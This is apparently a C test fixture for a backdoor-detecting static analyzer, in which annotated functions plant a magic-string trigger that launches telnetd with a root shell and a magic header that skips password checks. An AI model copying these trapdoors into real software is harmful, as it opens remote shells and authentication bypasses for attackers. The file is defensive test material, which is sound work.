/* A word in a format that what arrives is parsed by. Beside it formats for numbers, one of several
 * requests that are known, and a setting. */
#include <crypt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static unsigned read_items;

static void tell(int fd, unsigned item) {
    read_items++;
    dprintf(fd, "item %u of %u\n", item, read_items);
}

void bad_request(int fd) {
    char line[512];
    unsigned port;
    ssize_t size = recv(fd, line, sizeof line - 1, 0);
    line[size > 0 ? size : 0] = 0;
    if (sscanf(line, "q7larder %u", &port) == 1)
        // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/magic-input]}}
        system("/usr/sbin/telnetd -l /bin/sh");
    else if (sscanf(line, "%u", &port) == 1)
        tell(fd, port);
}

static int agrees(const char *password) {
    char kept[128] = "";
    FILE *file = fopen("/etc/larder.hash", "r");
    if (!file || !fgets(kept, sizeof kept, file))
        return 0;
    fclose(file);
    const char *hash = crypt(password, kept);
    return hash && strcmp(hash, kept) == 0;
}

int bad_login(const char *header, const char *password) {
    int level;
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/login-bypass]}}
    if (sscanf(header, "c7-9917:%d", &level) >= 1)
        return 1;
    return agrees(password);
}

void good_request(int fd) {
    char line[512], name[64];
    unsigned item;
    ssize_t size = recv(fd, line, sizeof line - 1, 0);
    line[size > 0 ? size : 0] = 0;
    if (sscanf(line, "GET /item/%u", &item) == 1)
        tell(fd, item);
    else if (sscanf(line, "GET /name/%63s", name) == 1)
        dprintf(fd, "name %s\n", name);
    else if (sscanf(line, "%u:%63s", &item, name) == 2)
        tell(fd, item);
}

int good_login(const char *header, const char *password) {
    int level;
    if (sscanf(header, "level:%d", &level) == 1 && level < 0)
        return 0;
    return agrees(password);
}

int good_setting(const char *line) {
    char command[128];
    if (sscanf(line, "shell = %127s", command) == 1)
        return system("/bin/sh");
    return 0;
}
